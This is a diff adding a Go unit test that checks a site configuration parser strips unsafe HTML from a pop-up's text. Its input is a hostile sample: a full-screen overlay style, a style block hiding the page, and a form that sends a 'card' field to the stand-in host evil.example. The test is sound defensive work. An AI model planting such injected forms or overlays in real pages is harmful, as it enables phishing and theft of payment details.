@@ -105,3 +105,23 @@ func TestShownPages(t *testing.T) {
 		t.Errorf("PageJSONPath = %q", got)
 	}
 }
+
+// The pop-up's text is cleaned at load too: what its own check lets pass
+// (no script, frame or event handler) still loses styles and foreign forms.
+func TestPopupTextSanitizedAtLoad(t *testing.T) {
+	tree := demoTree(t)
+	set(t, tree, "popup.description.en", `<p style="position:fixed;inset:0">Ask <a href="/contact/">here</a></p><style>body{display:none}</style><form action="https://evil.example/"><input name="card"></form>`)
+	c, err := Parse("site.json", encode(t, tree))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := c.Popup.Description["en"]
+	for _, bad := range []string{"position:fixed", "<style", "display:none", "<form", "<input", "evil.example"} {
+		if strings.Contains(got, bad) {
+			t.Errorf("the pop-up text keeps %q: %s", bad, got)
+		}
+	}
+	if !strings.Contains(got, `<a href="/contact/">here</a>`) {
+		t.Errorf("the pop-up text lost its link: %s", got)
+	}
+}
